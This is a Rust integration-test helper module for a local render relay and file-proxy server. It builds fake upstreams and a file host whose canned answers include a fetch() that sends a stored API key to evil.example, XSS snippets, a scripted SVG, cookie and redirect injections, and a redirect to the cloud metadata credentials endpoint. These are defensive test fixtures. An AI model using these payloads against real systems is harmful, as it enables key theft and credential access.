//! Shared by the server's integration tests: a server on a free loopback port (in this process,
//! or the real binary), a plain HTTP client and a raw one, upstreams for the relay (one that
//! records what reaches it, one that cuts its answers; the latter is the e2e crate's), and a
//! file host for `/__su/file`.

#![allow(dead_code)] // Each test crate uses its own part of this module.

use std::path::PathBuf;
use std::sync::atomic::{AtomicU32, AtomicUsize, Ordering};
use std::sync::{Arc, Mutex};
use std::time::Duration;

use serde_json::Value;
use su_render_server::{Mode, Origin, ServerConfig, Settings, SimConfig};
use tokio::net::TcpListener;
use tokio::task::JoinHandle;

/// A well-formed key (32 lowercase hex characters).
pub const KEY: &str = "0123456789abcdef0123456789abcdef";
pub const SU_APP: &str = su_render_server::sim::SU_APP;
pub const RESTYLE_APP: &str = su_render_server::sim::RESTYLE_APP;

// Like the rest of this module, each test crate uses some of them.
#[allow(unused_imports)]
pub use rh_api::path::{ACCOUNT, APP_DEMO, CANCEL, OUTPUTS, RUN, STATUS, UPLOAD};

/// The simulator's test key that answers `code` (`bad000…0NNN`).
pub fn bad_key(code: u32) -> String {
    let key = format!("bad{code:029}");
    assert_eq!(key.len(), 32);
    key
}

/// A `dist/` with a recognisable index page, unique to this process and call.
pub fn dist() -> PathBuf {
    static COUNTER: AtomicU32 = AtomicU32::new(0);
    let dir = std::env::temp_dir().join(format!(
        "su-render-server-test-{}-{}",
        std::process::id(),
        COUNTER.fetch_add(1, Ordering::Relaxed)
    ));
    std::fs::create_dir_all(&dir).expect("temp dist");
    std::fs::write(
        dir.join("index.html"),
        "<!DOCTYPE html><title>SU Render test page</title>",
    )
    .expect("index.html");
    dir
}

/// A server on a free loopback port; stopped when dropped.
pub struct Server {
    /// `http://127.0.0.1:<port>`, no trailing slash.
    pub base: String,
    handle: JoinHandle<std::io::Result<()>>,
}

impl Drop for Server {
    fn drop(&mut self) {
        self.handle.abort();
    }
}

impl Server {
    pub fn url(&self, path: &str) -> String {
        format!("{}{path}", self.base)
    }
}

pub async fn start(mode: Mode, sim: SimConfig) -> Server {
    start_in(dist(), mode, sim).await
}

/// A server for the given `dist/`.
pub async fn start_in(dist: PathBuf, mode: Mode, sim: SimConfig) -> Server {
    start_with(ServerConfig { dist, mode, sim }.into()).await
}

/// A server with everything said.
pub async fn start_with(settings: Settings) -> Server {
    let listener = TcpListener::bind("127.0.0.1:0").await.expect("bind");
    let addr = listener.local_addr().expect("addr");
    let handle = tokio::spawn(su_render_server::run(listener, settings));
    Server {
        base: format!("http://{addr}"),
        handle,
    }
}

/// Settings for `mode` with a test `dist/`, to be changed by a test.
pub fn settings(mode: Mode) -> Settings {
    ServerConfig {
        dist: dist(),
        mode,
        sim: fast_sim(),
    }
    .into()
}

pub fn origin(text: &str) -> Origin {
    Origin::parse(text).unwrap_or_else(|e| panic!("{e}"))
}

/// Timings whose tasks finish at once.
pub fn fast_sim() -> SimConfig {
    SimConfig {
        queue_ms: 0,
        run_ms: 0,
        poll_first_ms: Some(200),
        poll_steady_ms: Some(300),
        require_key: None,
        socket_hidden_close_ms: None,
    }
}

/// A simulator whose tasks finish at once unless a test says otherwise.
pub async fn simulator() -> Server {
    start(Mode::Simulator, fast_sim()).await
}

/// A relay to `upstream`.
pub async fn relay(upstream: &str) -> Server {
    start(
        Mode::Relay {
            upstream: upstream.to_owned(),
        },
        SimConfig::default(),
    )
    .await
}

/// A relay whose `/cn` goes to `cn` and `/ai` to `ai`, as the default one does to RunningHub.
pub async fn sites(cn: &str, ai: &str) -> Server {
    start(
        Mode::Sites {
            cn: cn.to_owned(),
            ai: ai.to_owned(),
        },
        SimConfig::default(),
    )
    .await
}

pub fn client() -> reqwest::Client {
    reqwest::Client::builder()
        .timeout(Duration::from_secs(30))
        .build()
        .expect("client")
}

/// An answer, whole.
#[derive(Debug)]
pub struct Answer {
    pub status: u16,
    pub content_type: String,
    pub headers: reqwest::header::HeaderMap,
    pub bytes: Vec<u8>,
}

impl Answer {
    pub fn text(&self) -> String {
        String::from_utf8_lossy(&self.bytes).into_owned()
    }

    /// The body as JSON; panics with the body when it is not.
    pub fn json(&self) -> Value {
        serde_json::from_slice(&self.bytes)
            .unwrap_or_else(|e| panic!("not JSON ({e}): {:?}", self.text()))
    }

    /// `code` of a RunningHub envelope.
    pub fn code(&self) -> i64 {
        let json = self.json();
        json["code"]
            .as_i64()
            .unwrap_or_else(|| panic!("no code in {json}"))
    }

    pub fn data(&self) -> Value {
        self.json()["data"].clone()
    }
}

pub async fn answer(response: reqwest::Response) -> Answer {
    let status = response.status().as_u16();
    let headers = response.headers().clone();
    let content_type = headers
        .get(reqwest::header::CONTENT_TYPE)
        .and_then(|v| v.to_str().ok())
        .unwrap_or("")
        .to_owned();
    let bytes = response.bytes().await.expect("body").to_vec();
    Answer {
        status,
        content_type,
        headers,
        bytes,
    }
}

pub async fn post(base: &str, path: &str, body: &Value) -> Answer {
    let response = client()
        .post(format!("{base}{path}"))
        .json(body)
        .send()
        .await
        .unwrap_or_else(|e| panic!("POST {path}: {e}"));
    answer(response).await
}

pub async fn get(base: &str, path: &str) -> Answer {
    let response = client()
        .get(format!("{base}{path}"))
        .send()
        .await
        .unwrap_or_else(|e| panic!("GET {path}: {e}"));
    answer(response).await
}

/// Uploads `bytes` as `name` the way the app does (multipart: apiKey, file, fileType).
pub async fn upload(base: &str, key: &str, name: &str, bytes: Vec<u8>) -> Answer {
    let part = reqwest::multipart::Part::bytes(bytes)
        .file_name(name.to_owned())
        .mime_str("image/png")
        .expect("mime");
    let form = reqwest::multipart::Form::new()
        .text("apiKey", key.to_owned())
        .part("file", part)
        .text("fileType", "input");
    let response = client()
        .post(format!("{base}{UPLOAD}"))
        .multipart(form)
        .send()
        .await
        .expect("upload");
    answer(response).await
}

/// The simulator's request log.
pub async fn sim_log(base: &str) -> Vec<Value> {
    match get(base, "/__sim/log").await.json() {
        Value::Array(entries) => entries,
        other => panic!("log is not a list: {other}"),
    }
}

pub fn entries<'a>(log: &'a [Value], path: &str) -> Vec<&'a Value> {
    log.iter().filter(|e| e["path"] == path).collect()
}

/// Starts a task on the simulator and returns its id.
pub async fn start_task(base: &str) -> String {
    let run = post(
        base,
        RUN,
        &serde_json::json!({"apiKey": KEY, "webappId": SU_APP}),
    )
    .await;
    assert_eq!(run.code(), 0, "{}", run.text());
    run.data()["taskId"]
        .as_str()
        .unwrap_or_else(|| panic!("taskId is a string: {}", run.text()))
        .to_owned()
}

/// One request as an upstream saw it.
#[derive(Debug, Clone)]
pub struct Seen {
    pub method: String,
    /// Path and query.
    pub target: String,
    pub content_type: Option<String>,
    pub authorization: Option<String>,
    /// Every header, names in lower case.
    pub headers: Vec<(String, String)>,
    pub body: Vec<u8>,
}

/// The size of the recorder's `answer=huge`: past the relay's 8 MiB.
pub const HUGE_ANSWER: usize = 9 * 1024 * 1024;

/// An upstream that records every request and answers it: `/task/openapi/status` with an
/// nginx-style 500 page, everything else with a JSON envelope that echoes the request, unless
/// the query asks for another answer (the relay passes queries on):
/// - `answer=portal`: a 200 HTML page, as a captive portal or a firewall sends;
/// - `answer=script`: a 200 `text/javascript` body;
/// - `answer=empty`: a 200 with no body;
/// - `answer=huge`: a JSON document of [`HUGE_ANSWER`] bytes;
/// - `answer=cookies`: the echo with `Set-Cookie`, `Location` and `Refresh` headers.
pub struct Recorder {
    pub base_url: String,
    pub seen: Arc<Mutex<Vec<Seen>>>,
    handle: JoinHandle<()>,
}

impl Drop for Recorder {
    fn drop(&mut self) {
        self.handle.abort();
    }
}

impl Recorder {
    pub fn seen(&self) -> Vec<Seen> {
        self.seen.lock().expect("lock").clone()
    }
}

pub async fn recorder() -> Recorder {
    use axum::body::Bytes;
    use axum::http::{header, HeaderMap, Method, StatusCode, Uri};
    use axum::response::IntoResponse;

    let seen: Arc<Mutex<Vec<Seen>>> = Arc::default();
    let log = seen.clone();
    let app = axum::Router::new()
        .fallback(
            move |method: Method, uri: Uri, headers: HeaderMap, body: Bytes| {
                let log = log.clone();
                async move {
                    let header_text = |name| {
                        headers
                            .get(name)
                            .and_then(|v| v.to_str().ok())
                            .map(str::to_owned)
                    };
                    log.lock().expect("lock").push(Seen {
                        method: method.to_string(),
                        target: uri.to_string(),
                        content_type: header_text(header::CONTENT_TYPE),
                        authorization: header_text(header::AUTHORIZATION),
                        headers: headers
                            .iter()
                            .map(|(k, v)| {
                                (k.as_str().to_owned(), String::from_utf8_lossy(v.as_bytes()).into_owned())
                            })
                            .collect(),
                        body: body.to_vec(),
                    });
                    let asked = uri
                        .query()
                        .unwrap_or("")
                        .split('&')
                        .find_map(|pair| pair.strip_prefix("answer="))
                        .unwrap_or("");
                    match asked {
                        "portal" => {
                            return (
                                [(header::CONTENT_TYPE, "text/html; charset=utf-8")],
                                "<html><body><form action=/login>Sign in to the Wi-Fi</form>\
                                 <script>alert(localStorage)</script></body></html>",
                            )
                                .into_response()
                        }
                        "script" => {
                            return (
                                [(header::CONTENT_TYPE, "text/javascript")],
                                "fetch('https://evil.example/?k='+localStorage.getItem('su-render.key.v1'))",
                            )
                                .into_response()
                        }
                        "empty" => return StatusCode::OK.into_response(),
                        "huge" => {
                            let mut text = String::with_capacity(HUGE_ANSWER);
                            text.push_str("{\"code\":0,\"msg\":\"");
                            text.push_str(&"x".repeat(HUGE_ANSWER - 30));
                            text.push_str("\",\"data\":null}");
                            return ([(header::CONTENT_TYPE, "application/json")], text)
                                .into_response();
                        }
                        _ => {}
                    }
                    if uri.path() == STATUS {
                        return (
                            StatusCode::INTERNAL_SERVER_ERROR,
                            [(header::CONTENT_TYPE, "text/html")],
                            "<html><body>upstream is down</body></html>",
                        )
                            .into_response();
                    }
                    let echo = serde_json::json!({
                        "code": 0, "msg": "success",
                        "data": {"method": method.as_str(), "target": uri.to_string(), "bytes": body.len()},
                    });
                    let mut response = (
                        [
                            (header::CONTENT_TYPE, "application/json;charset=UTF-8"),
                            (header::HeaderName::from_static("x-upstream"), "recorder"),
                        ],
                        echo.to_string(),
                    )
                        .into_response();
                    if asked == "cookies" {
                        let headers = response.headers_mut();
                        for (name, value) in [
                            ("set-cookie", "session=stolen; Path=/"),
                            ("location", "https://evil.example/"),
                            ("refresh", "0; url=https://evil.example/"),
                            ("access-control-allow-origin", "*"),
                            ("content-security-policy", "default-src *"),
                        ] {
                            headers.insert(
                                header::HeaderName::from_static(name),
                                header::HeaderValue::from_static(value),
                            );
                        }
                    }
                    response
                }
            },
        )
        // Uploads of several MB pass through here.
        .layer(axum::extract::DefaultBodyLimit::max(64 * 1024 * 1024));
    let listener = TcpListener::bind("127.0.0.1:0").await.expect("bind");
    let addr = listener.local_addr().expect("addr");
    let handle = tokio::spawn(async move {
        let _ = axum::serve(listener, app).await;
    });
    Recorder {
        base_url: format!("http://{addr}"),
        seen,
        handle,
    }
}

/// The upstream that cuts its answers, shared with the e2e crate as source (see the file's
/// comment for why it is included by path rather than depended on).
#[path = "../../../e2e/src/upstream.rs"]
mod upstream;
pub use upstream::CutUpstream;

pub async fn cut_upstream() -> CutUpstream {
    CutUpstream::start().await.expect("cut upstream")
}

pub async fn dead_port() -> u16 {
    upstream::dead_port().await.expect("bind")
}

/// One request written as raw bytes over a fresh connection (so that the path reaches the server
/// exactly as written, `..` and all); the answer's status and body. `head` is the request line
/// and headers without the blank line; `Host` (the server's address) and `Connection: close` are
/// added.
pub async fn raw(base: &str, head: &str, body: Vec<u8>) -> (u16, String) {
    let addr = base.trim_start_matches("http://");
    let head = format!("{head}\r\nHost: {addr}\r\nConnection: close\r\n\r\n");
    let answer = raw_exact(base, head.into_bytes(), body).await;
    (answer.status, answer.body)
}

/// An answer read off the wire by [`raw_exact`].
#[derive(Debug)]
pub struct RawAnswer {
    pub status: u16,
    /// Names in lower case, in the order sent.
    pub headers: Vec<(String, String)>,
    /// The body as sent (a chunked one with its chunk sizes).
    pub body: String,
}

impl RawAnswer {
    /// The first value of a header.
    pub fn header(&self, name: &str) -> Option<&str> {
        self.headers
            .iter()
            .find(|(k, _)| k == name)
            .map(|(_, v)| v.as_str())
    }

    /// Every value of a header.
    pub fn all(&self, name: &str) -> Vec<&str> {
        self.headers
            .iter()
            .filter(|(k, _)| k == name)
            .map(|(_, v)| v.as_str())
            .collect()
    }
}

/// Exactly `head` (request line, headers and the blank line: nothing is added) and then `body`,
/// written to the server at `base` over a fresh connection; the answer, read until the server
/// closes the connection (so `head` should say `Connection: close`) or 30 s pass. Status 0: the
/// server closed without answering.
pub async fn raw_exact(base: &str, head: Vec<u8>, body: Vec<u8>) -> RawAnswer {
    use std::io::{Read, Write};
    let addr = base.trim_start_matches("http://").to_owned();
    tokio::task::spawn_blocking(move || {
        let mut stream = std::net::TcpStream::connect(&addr).expect("connect");
        stream
            .set_read_timeout(Some(Duration::from_secs(30)))
            .expect("timeout");
        let mut writer = stream.try_clone().expect("clone");
        // Written on its own thread: the server may answer (and stop reading) before the end.
        let sending = std::thread::spawn(move || {
            let _ = writer.write_all(&head);
            let _ = writer.write_all(&body);
        });
        let mut answer = Vec::new();
        let _ = stream.read_to_end(&mut answer);
        let _ = sending.join();
        parse_raw(&answer)
    })
    .await
    .expect("raw request")
}

/// An HTTP/1.1 answer as bytes, parsed; status 0 for none.
pub fn parse_raw(answer: &[u8]) -> RawAnswer {
    let text = String::from_utf8_lossy(answer).into_owned();
    let (head, body) = text.split_once("\r\n\r\n").unwrap_or((&text, ""));
    let mut lines = head.split("\r\n");
    let status = lines
        .next()
        .and_then(|line| line.split(' ').nth(1))
        .and_then(|s| s.parse().ok())
        .unwrap_or(0);
    let headers = lines
        .filter_map(|line| line.split_once(':'))
        .map(|(k, v)| (k.trim().to_ascii_lowercase(), v.trim().to_owned()))
        .collect();
    RawAnswer {
        status,
        headers,
        body: body.to_owned(),
    }
}

/// The server binary of this crate.
pub const BIN: &str = env!("CARGO_BIN_EXE_su-render-server");

/// The binary, started with `args` in `dir`; its address, read from the line it prints; killed
/// when dropped.
pub struct Running {
    pub child: std::process::Child,
    /// `http://127.0.0.1:<port>`, no trailing slash.
    pub base: String,
    pub first_line: String,
}

impl Drop for Running {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

impl Running {
    pub fn port(&self) -> u16 {
        self.base
            .rsplit(':')
            .next()
            .and_then(|p| p.parse().ok())
            .expect("a port in the address")
    }

    /// `127.0.0.1:<port>`: what a browser sends as `Host` for this server.
    pub fn authority(&self) -> String {
        self.base.trim_start_matches("http://").to_owned()
    }
}

/// The binary started with `args` from an empty temporary folder.
pub fn start_binary(args: &[&str]) -> Running {
    start_binary_in(&dist_empty(), args)
}

/// The binary started with `args` from `dir` (which may hold a `dist/`).
pub fn start_binary_in(dir: &std::path::Path, args: &[&str]) -> Running {
    start_binary_home(dir, &dist_empty(), args)
}

/// The binary started with `args` from `dir`, its data folder (`inbox.json`) in `home`: never
/// the real one of whoever runs the tests.
pub fn start_binary_home(dir: &std::path::Path, home: &std::path::Path, args: &[&str]) -> Running {
    use std::io::BufRead;
    let mut child = std::process::Command::new(BIN)
        .args(args)
        .current_dir(dir)
        .env("SU_RENDER_HOME", home)
        .env("SU_RENDER_NO_OPEN", "1")
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::null())
        .spawn()
        .expect("start the binary");
    let stdout = child.stdout.take().expect("stdout");
    let mut reader = std::io::BufReader::new(stdout);
    let mut line = String::new();
    // Notes come before the address line.
    while !line.starts_with("SU Render: ") {
        line.clear();
        if reader.read_line(&mut line).expect("a line") == 0 {
            panic!("the binary printed no address");
        }
    }
    let base = line
        .strip_prefix("SU Render: ")
        .and_then(|rest| rest.split_whitespace().next())
        .unwrap_or_else(|| panic!("no address in {line:?}"))
        .trim_end_matches('/')
        .to_owned();
    // Keep reading so that its later lines never fill the pipe.
    std::thread::spawn(move || {
        let mut sink = String::new();
        while reader.read_line(&mut sink).is_ok_and(|n| n > 0) {
            sink.clear();
        }
    });
    Running {
        child,
        base,
        first_line: line,
    }
}

/// An empty folder of its own.
pub fn dist_empty() -> PathBuf {
    let dir = dist();
    std::fs::remove_file(dir.join("index.html")).expect("empty it");
    dir
}

/// A file host on a free loopback port, standing in for RunningHub's (allowed with
/// `--allow-file-origin`); every request it gets is counted, so refusals can be shown to reach
/// nobody. Stopped when dropped.
pub struct FileHost {
    pub base_url: String,
    pub hits: Arc<AtomicUsize>,
    handle: JoinHandle<()>,
}

impl Drop for FileHost {
    fn drop(&mut self) {
        self.handle.abort();
    }
}

impl FileHost {
    pub fn url(&self, path: &str) -> String {
        format!("{}{path}", self.base_url)
    }

    pub fn hits(&self) -> usize {
        self.hits.load(Ordering::SeqCst)
    }
}

/// The file host's picture.
pub fn picture() -> Vec<u8> {
    su_render_server::png::rendering(64, 40, 7)
}

fn redirect(to: String) -> axum::response::Response {
    use axum::response::IntoResponse;
    (
        axum::http::StatusCode::FOUND,
        [(axum::http::header::LOCATION, to)],
    )
        .into_response()
}

/// A body of `n` bytes in 1000-byte pieces with no Content-Length.
fn chunked(n: usize) -> axum::response::Response {
    let pieces = (0..n.div_ceil(1000))
        .map(move |i| Ok::<_, std::io::Error>(vec![b'z'; 1000.min(n - i * 1000)]));
    axum::response::Response::new(axum::body::Body::from_stream(futures_util::stream::iter(
        pieces,
    )))
}

/// Bytes the file host's `/drip` sends, one every [`DRIP_EVERY`].
pub const DRIP_BYTES: usize = 40;
pub const DRIP_EVERY: Duration = Duration::from_millis(250);

/// The file host. Paths: `/pic.png`, `/clip.mp4`, `/untyped` (no type), `/page.html`,
/// `/script.js`, `/drawing.svg` (with a script), redirects (`/to-pic`, `/to-unlisted`,
/// `/to-evil`, `/to-metadata`, `/to-listed`: to `https://files.xiaoyaoyou.com/x.png`, `/loop`),
/// failures (`/expired`, `/broken`), sizes (`/declared-huge`, `/chunked-5000`, `/sized-5000`)
/// and `/drip` ([`DRIP_BYTES`] announced, one byte every [`DRIP_EVERY`]).
pub async fn file_host() -> FileHost {
    use axum::body::Body;
    use axum::http::{header, StatusCode};
    use axum::response::Response;
    use axum::routing::get as route_get;

    let dead = dead_port().await;
    let listener = TcpListener::bind("127.0.0.1:0").await.expect("bind");
    let addr = listener.local_addr().expect("addr");
    let hits: Arc<AtomicUsize> = Arc::default();
    let counter = hits.clone();
    let typed = |content_type: &'static str, body: &'static str| {
        route_get(move || async move { ([(header::CONTENT_TYPE, content_type)], body) })
    };
    let app = axum::Router::new()
        .route(
            "/pic.png",
            route_get(|| async { ([(header::CONTENT_TYPE, "image/png")], picture()) }),
        )
        .route("/clip.mp4", typed("video/mp4", "not really a video"))
        .route(
            "/untyped",
            route_get(|| async { Response::new(Body::from(b"raw bytes".to_vec())) }),
        )
        .route(
            "/page.html",
            typed("text/html", "<script>alert(localStorage)</script>"),
        )
        .route(
            "/script.js",
            typed(
                "text/javascript; charset=utf-8",
                "fetch('https://evil.example/?k='+localStorage.getItem('su-render.key.v1'))",
            ),
        )
        .route(
            "/drawing.svg",
            typed(
                "image/svg+xml",
                "<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>",
            ),
        )
        .route(
            "/to-pic",
            route_get(|| async { redirect("/pic.png".into()) }),
        )
        .route(
            "/to-unlisted",
            route_get(move || async move { redirect(format!("http://127.0.0.1:{dead}/pic.png")) }),
        )
        .route(
            "/to-evil",
            route_get(|| async {
                redirect("https://rh-images.xiaoyaoyou.com.evil.example/x.png".into())
            }),
        )
        .route(
            "/to-metadata",
            route_get(|| async {
                redirect("http://169.254.169.254/latest/meta-data/iam/security-credentials/".into())
            }),
        )
        .route(
            "/to-listed",
            route_get(|| async { redirect("https://files.xiaoyaoyou.com/x.png".into()) }),
        )
        .route("/loop", route_get(|| async { redirect("/loop".into()) }))
        .route(
            "/expired",
            route_get(|| async { (StatusCode::NOT_FOUND, "NoSuchKey") }),
        )
        .route(
            "/broken",
            route_get(|| async { (StatusCode::INTERNAL_SERVER_ERROR, "oops") }),
        )
        .route(
            "/declared-huge",
            route_get(|| async {
                // Claims more than the cap (and then sends 10 bytes and waits forever): the
                // proxy must refuse on the header alone.
                let start = futures_util::stream::iter([Ok::<_, std::io::Error>(vec![b'z'; 10])]);
                let body = futures_util::StreamExt::chain(start, futures_util::stream::pending());
                let mut response = Response::new(Body::from_stream(body));
                response.headers_mut().insert(
                    header::CONTENT_LENGTH,
                    header::HeaderValue::from(su_render_server::file_proxy::MAX_BYTES + 1),
                );
                response
            }),
        )
        .route("/chunked-5000", route_get(|| async { chunked(5000) }))
        .route("/sized-5000", route_get(|| async { vec![b'z'; 5000] }))
        .route(
            "/drip",
            route_get(|| async {
                let drops = futures_util::stream::unfold(0usize, |sent| async move {
                    if sent == DRIP_BYTES {
                        return None;
                    }
                    tokio::time::sleep(DRIP_EVERY).await;
                    Some((Ok::<_, std::io::Error>(vec![b'd']), sent + 1))
                });
                let mut response = Response::new(Body::from_stream(drops));
                let headers = response.headers_mut();
                headers.insert(
                    header::CONTENT_TYPE,
                    header::HeaderValue::from_static("image/png"),
                );
                headers.insert(
                    header::CONTENT_LENGTH,
                    header::HeaderValue::from(DRIP_BYTES),
                );
                response
            }),
        )
        .layer(axum::middleware::from_fn(
            move |request: axum::extract::Request, next: axum::middleware::Next| {
                counter.fetch_add(1, Ordering::SeqCst);
                next.run(request)
            },
        ));
    let handle = tokio::spawn(async move {
        let _ = axum::serve(listener, app).await;
    });
    FileHost {
        base_url: format!("http://{addr}"),
        hits,
        handle,
    }
}

/// The `type` of each JSON text frame of a progress socket, in order.
pub fn frame_types(texts: &[String]) -> Vec<String> {
    texts
        .iter()
        .filter_map(|t| serde_json::from_str::<Value>(t).ok())
        .filter_map(|v| v["type"].as_str().map(str::to_owned))
        .collect()
}

/// The frame types of a task's progress socket that ran to its end: they begin with the task's
/// status and end with its success.
pub fn assert_ran_to_success(kinds: &[String]) {
    assert_eq!(
        kinds.first().map(String::as_str),
        Some("status"),
        "{kinds:?}"
    );
    assert_eq!(
        kinds.last().map(String::as_str),
        Some("execution_success"),
        "{kinds:?}"
    );
}
